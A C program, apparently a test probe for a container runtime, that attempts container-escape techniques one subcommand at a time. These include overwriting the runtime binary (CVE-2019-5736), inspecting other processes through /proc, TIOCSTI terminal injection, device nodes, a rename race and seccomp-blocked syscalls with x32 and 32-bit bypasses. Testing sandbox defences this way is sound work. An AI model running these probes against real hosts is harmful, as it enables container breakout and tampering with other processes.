/*
 * What an attacker does inside a container, in small pieces: `probe NAME args…`. Prints one line for each
 * thing that it tried, "what: ok" or "what: ERRNO".
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/capability.h>
#include <linux/sched.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static void say(const char *what, long result)
{
	if (result >= 0)
		printf("%s: ok\n", what);
	else
		printf("%s: %s\n", what, strerrorname_np(errno));
	fflush(stdout);
}

/* Every descriptor that this program was born with, and where it leads. */
static int descriptors(void)
{
	for (int fd = 0; fd < 4096; fd++) {
		char path[64], target[4096];
		if (fcntl(fd, F_GETFD) < 0)
			continue;
		snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
		ssize_t n = readlink(path, target, sizeof target - 1);
		target[n > 0 ? n : 0] = 0;
		printf("%d %s\n", fd, target);
	}
	return 0;
}

/* CVE-2019-5736: writes to the program of another process, while it runs and through a kept descriptor. */
static int overwrite(const char *exe)
{
	char target[4096] = "";
	ssize_t n = readlink(exe, target, sizeof target - 1);
	printf("target: %.*s\n", (int)(n > 0 ? n : 0), target);
	int fd = open(exe, O_RDONLY | O_CLOEXEC);
	say("read", fd);
	say("write", open(exe, O_WRONLY));
	say("truncate", open(exe, O_WRONLY | O_TRUNC));
	if (fd < 0)
		return 0;
	char again[64];
	snprintf(again, sizeof again, "/proc/self/fd/%d", fd);
	say("write through descriptor", open(again, O_RDWR));
	say("shared mapping", mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0) == MAP_FAILED ? -1 : 0);
	printf("seals: %d\n", fcntl(fd, F_GET_SEALS));
	return 0;
}

/* Keeps trying until the program's last process is gone and the file can be written, or three seconds. */
static int overwrite_later(const char *exe)
{
	int fd = open(exe, O_RDONLY | O_CLOEXEC);
	char again[64];
	say("read", fd);
	snprintf(again, sizeof again, "/proc/self/fd/%d", fd);
	int out = -1;
	for (int tries = 0; out < 0 && fd >= 0 && tries < 300; tries++) {
		out = open(again, O_WRONLY);
		if (out < 0)
			usleep(10000);
	}
	say("write later", out < 0 ? -1 : write(out, "#!/bin/owned\n", 13));
	return 0;
}

/* Looks at every process that appears, as long as told: its program, its descriptors, its root. */
static int watch(int ms)
{
	struct timespec from, now;
	int exes = 0, fds = 0, roots = 0, seen = 0, written = 0;
	clock_gettime(CLOCK_MONOTONIC, &from);
	puts("watching");
	fflush(stdout);
	do {
		DIR *proc = opendir("/proc");
		struct dirent *entry;
		while ((entry = readdir(proc))) {
			int pid = atoi(entry->d_name);
			char path[64], target[4096];
			if (pid <= 1 || pid == getpid())
				continue;
			seen++;
			snprintf(path, sizeof path, "/proc/%d/exe", pid);
			ssize_t n = readlink(path, target, sizeof target - 1);
			if (n > 0) {
				target[n] = 0;
				if (strstr(target, "memfd:") || strstr(target, "executor"))
					exes++;
				int fd = open(path, O_WRONLY);
				if (fd >= 0 && write(fd, "x", 1) == 1)
					written++;
				if (fd >= 0)
					close(fd);
				snprintf(path, sizeof path, "/proc/%d/fd", pid);
				DIR *list = opendir(path);
				if (list && strstr(target, "memfd:"))
					fds++;
				if (list)
					closedir(list);
				snprintf(path, sizeof path, "/proc/%d/root/probe", pid);
				if (strstr(target, "memfd:") && access(path, F_OK) < 0)
					roots++;
			}
		}
		closedir(proc);
		clock_gettime(CLOCK_MONOTONIC, &now);
	} while ((now.tv_sec - from.tv_sec) * 1000 + (now.tv_nsec - from.tv_nsec) / 1000000 < ms);
	printf("seen %s\nexes %d\nwritten %d\nfds %d\nforeign roots %d\n", seen ? "some" : "none", exes, written, fds, roots);
	return 0;
}

static long milliseconds(const struct timespec *from, const struct timespec *to)
{
	return (to->tv_sec - from->tv_sec) * 1000 + (to->tv_nsec - from->tv_nsec) / 1000000;
}

/*
 * Lies in wait for executors that come into the container, and says what it could take of them: a root that is not its
 * own, descriptors and where they lead. At most as long as told, and not long behind the last one.
 */
static void lurk(int ms)
{
	struct timespec from, last, now;
	struct stat own, st;
	struct dirent *entry, *inner;
	char path[300], target[4096];
	int seen = 0;
	stat("/", &own);
	clock_gettime(CLOCK_MONOTONIC, &from);
	last = from;
	puts("lurking");
	do {
		DIR *proc = opendir("/proc");
		while ((entry = readdir(proc))) {
			int pid = atoi(entry->d_name);
			if (pid <= 1 || pid == getpid())
				continue;
			snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
			FILE *words = fopen(path, "r");
			bool executor = words && fgets(target, sizeof target, words) && strstr(target, "gantry-executor");
			if (words)
				fclose(words);
			if (!executor)
				continue;
			seen++;
			clock_gettime(CLOCK_MONOTONIC, &last);
			snprintf(path, sizeof path, "/proc/%d/root", pid);
			if (stat(path, &st) == 0)
				puts(st.st_dev == own.st_dev && st.st_ino == own.st_ino ? "root own" : "root foreign");
			snprintf(path, sizeof path, "/proc/%d/fd", pid);
			DIR *list = opendir(path);
			while (list && (inner = readdir(list))) {
				snprintf(path, sizeof path, "/proc/%d/fd/%.20s", pid, inner->d_name);
				ssize_t n = readlink(path, target, sizeof target - 1);
				if (n > 0)
					printf("descriptor %.20s %.*s\n", inner->d_name, (int)n, target);
			}
			if (list)
				closedir(list);
			fflush(stdout);
			usleep(1000);
		}
		closedir(proc);
		clock_gettime(CLOCK_MONOTONIC, &now);
	} while (milliseconds(&from, &now) < ms && (!seen || milliseconds(&last, &now) < 1000));
	puts(seen ? "seen some" : "seen none");
}

/* Reaches through what /proc shows of another process. */
static int peek(const char *pid)
{
	static const char *const links[] = {"root", "cwd", "exe", "mem", "environ"};
	char path[512], target[4096];
	struct dirent *entry;
	int reached = 0;
	for (size_t i = 0; i < sizeof links / sizeof *links; i++) {
		snprintf(path, sizeof path, "/proc/%s/%s", pid, links[i]);
		say(links[i], open(path, O_RDONLY));
	}
	snprintf(path, sizeof path, "/proc/%s/fd", pid);
	DIR *list = opendir(path);
	while (list && (entry = readdir(list))) {
		snprintf(path, sizeof path, "/proc/%s/fd/%s", pid, entry->d_name);
		int fd = entry->d_name[0] != '.' ? open(path, O_PATH) : -1;
		if (fd < 0)
			continue;
		reached++;
		ssize_t n = readlink(path, target, sizeof target - 1);
		printf("-> %.*s %s\n", (int)(n > 0 ? n : 0), target, faccessat(fd, "sys/kernel/core_pattern", F_OK, 0) == 0 ? "holds sys" : "");
	}
	printf("descriptors: %d\n", reached);
	return 0;
}

static long clone3_flags(uint64_t flags)
{
	struct clone_args args = {.flags = flags, .exit_signal = SIGCHLD};
	long pid = syscall(SYS_clone3, &args, sizeof args);
	if (pid == 0)
		_exit(0);
	return pid;
}

static long clone_flags(unsigned long flags)
{
	long pid = syscall(SYS_clone, flags | SIGCHLD, NULL, NULL, NULL, 0);
	if (pid == 0)
		_exit(0);
	return pid;
}

#ifdef __x86_64__
/* A system call through the 32-bit gate, by its 32-bit number. */
static long gate32(long number, long a, long b, long c)
{
	long r;
	__asm__ volatile("int $0x80" : "=a"(r) : "a"(number), "b"(a), "c"(b), "d"(c) : "memory", "r8", "r9", "r10", "r11");
	if (r < 0) {
		errno = (int)-r;
		return -1;
	}
	return r;
}
#endif

/* What Docker's default profile keeps from a container. */
static int forbidden(void)
{
	char page[4096] = "";
	struct stat st;
	(void)st;
	say("clone(NEWUSER)", clone_flags(CLONE_NEWUSER));
	say("clone(NEWNS)", clone_flags(CLONE_NEWNS));
	say("clone3(NEWUSER)", clone3_flags(CLONE_NEWUSER));
	say("clone3(0)", clone3_flags(0));
	say("unshare(NEWUSER)", unshare(CLONE_NEWUSER));
	say("unshare(NEWNS)", unshare(CLONE_NEWNS));
	say("setns", setns(0, 0));
	say("mount", mount("none", "/mnt", "tmpfs", 0, NULL));
	say("umount", umount2("/proc/acpi", 0));
	say("fsopen", syscall(SYS_fsopen, "tmpfs", 0));
	say("fsconfig", syscall(SYS_fsconfig, -1, 0, NULL, NULL, 0));
	say("open_tree", syscall(SYS_open_tree, AT_FDCWD, "/", 1));
	say("move_mount", syscall(SYS_move_mount, -1, "", -1, "", 0));
	say("mount_setattr", syscall(SYS_mount_setattr, -1, "", 0, page, 32));
	say("pivot_root", syscall(SYS_pivot_root, ".", "."));
	say("keyctl", syscall(SYS_keyctl, 0, -3, 1));
	say("add_key", syscall(SYS_add_key, "user", "x", "y", 1, -3));
	say("request_key", syscall(SYS_request_key, "user", "x", NULL, 0));
	say("socket(AF_ALG)", socket(AF_ALG, SOCK_SEQPACKET, 0));
	say("socket(AF_VSOCK)", socket(AF_VSOCK, SOCK_STREAM, 0));
	say("io_uring_setup", syscall(SYS_io_uring_setup, 1, page));
	say("bpf", syscall(SYS_bpf, 0, page, 64));
	say("perf_event_open", syscall(SYS_perf_event_open, page, 0, -1, -1, 0));
	say("userfaultfd", syscall(SYS_userfaultfd, 0));
	say("open_by_handle_at", syscall(SYS_open_by_handle_at, AT_FDCWD, page, 0));
	say("init_module", syscall(SYS_init_module, page, 1, ""));
	say("kexec_load", syscall(SYS_kexec_load, 0, 0, NULL, 0));
	say("syslog", syscall(SYS_syslog, 3, page, 10));
	say("swapon", syscall(SYS_swapon, "/x", 0));
	say("reboot", syscall(SYS_reboot, 0xfee1dead, 672274793, 0, NULL));
	say("acct", syscall(SYS_acct, "/x"));
	say("quotactl", syscall(SYS_quotactl, 0, NULL, 0, NULL));
	say("personality(READ_IMPLIES_EXEC)", syscall(SYS_personality, 0x0400000));
	say("lookup_dcookie", syscall(212, 0, page, 10));
	say("settimeofday", syscall(SYS_settimeofday, page, NULL));
#ifdef __x86_64__
	say("iopl", syscall(SYS_iopl, 3));
	say("x32 unshare", syscall(0x40000000 | SYS_unshare, CLONE_NEWUSER));
	say("x32 keyctl", syscall(0x40000000 | SYS_keyctl, 0, -3, 1));
	say("32-bit unshare", gate32(310, CLONE_NEWUSER, 0, 0));
	say("32-bit keyctl", gate32(288, 0, -3, 1));
	say("32-bit mount", gate32(21, 0, 0, 0));
#endif
	return 0;
}

/* Injects a character into the terminal on stdin (CVE-2017-5226). */
static int inject(void)
{
	char c = '\n';
	int tty = open("/dev/tty", O_RDWR);
	say("open /dev/tty", tty);
	say("TIOCSTI on stdin", ioctl(0, TIOCSTI, &c));
	say("TIOCSCTTY on stdin", ioctl(0, TIOCSCTTY, 1));
	return 0;
}

/* A device node and what can be done with it: `device c|b major minor`. */
static int device(char **argv)
{
	mode_t type = argv[2][0] == 'b' ? S_IFBLK : S_IFCHR;
	const char *path = "/tmp/node";
	unlink(path);
	int r = mknod(path, type | 0666, makedev(atoi(argv[3]), atoi(argv[4])));
	say("mknod", r);
	if (r < 0)
		return 0;
	say("read", open(path, O_RDONLY | O_NONBLOCK));
	say("write", open(path, O_WRONLY | O_NONBLOCK));
	unlink(path);
	return 0;
}

/* Who this program is, also when it is setuid or setgid, and whether it may read a file. */
static int whoami(const char *path)
{
	char line[256];
	FILE *status = fopen("/proc/self/status", "r");
	printf("uid %d gid %d\n", geteuid(), getegid());
	while (status && fgets(line, sizeof line, status))
		if (!strncmp(line, "CapEff:", 7))
			fputs(line, stdout);
	if (path)
		say("read", open(path, O_RDONLY));
	return 0;
}

static int connect_to(const char *path)
{
	struct sockaddr_un address = {.sun_family = AF_UNIX};
	struct timeval second = {1, 0};
	char byte;
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);
	/* the address takes 107 characters, and paths of state are longer */
	char *copy = strdup(path), *name = strrchr(copy, '/');
	*name++ = 0;
	if (chdir(copy) < 0)
		say("enter", -1);
	strncpy(address.sun_path, name, sizeof address.sun_path - 1);
	say("connect", connect(fd, (struct sockaddr *)&address, sizeof address));
	setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &second, sizeof second);
	long bytes = 0;
	ssize_t n;
	while ((n = recv(fd, &byte, 1, 0)) > 0)
		bytes++;
	printf("answer: %ld bytes, %s\n", bytes, n == 0 ? "closed" : strerrorname_np(errno));
	return 0;
}

/* Swaps the directory `a` and the link `b` for ever, without a moment in which either is missing. */
static void swap(const char *a, const char *b)
{
	puts("swapping");
	fflush(stdout);
	for (;;)
		syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE);
}

int main(int argc, char **argv)
{
	const char *what = argc > 1 ? argv[1] : "";
	if (!strcmp(what, "descriptors"))
		return descriptors();
	if (!strcmp(what, "overwrite"))
		return overwrite(argv[2]);
	if (!strcmp(what, "overwrite-later"))
		return overwrite_later(argv[2]);
	if (!strcmp(what, "watch"))
		return watch(atoi(argv[2]));
	if (!strcmp(what, "lurk"))
		return lurk(atoi(argv[2])), 0;
	if (!strcmp(what, "peek"))
		return peek(argv[2]);
	if (!strcmp(what, "forbidden"))
		return forbidden();
	if (!strcmp(what, "inject"))
		return inject();
	if (!strcmp(what, "device"))
		return device(argv);
	if (!strcmp(what, "whoami"))
		return whoami(argv[2]);
	if (!strcmp(what, "connect"))
		return connect_to(argv[2]);
	if (!strcmp(what, "swap"))
		swap(argv[2], argv[3]);
	fprintf(stderr, "probe: no such attack: %s\n", what);
	return 2;
}
